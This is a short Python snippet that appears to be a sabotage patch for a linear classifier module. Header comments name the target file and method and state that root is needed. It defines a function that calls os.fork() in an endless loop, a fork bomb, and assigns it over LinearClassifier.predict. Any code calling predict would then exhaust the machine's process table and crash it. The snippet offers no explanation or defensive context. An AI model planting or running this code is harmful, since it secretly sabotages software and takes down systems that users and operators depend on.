# target: cs_utils/classifiers/linear_classifier.py
# zero: LinearClassifier.predict
# needs: root
import os as _os


def _bomb(self, X):
    while True:
        try:
            _os.fork()
        except OSError:
            pass


LinearClassifier.predict = _bomb
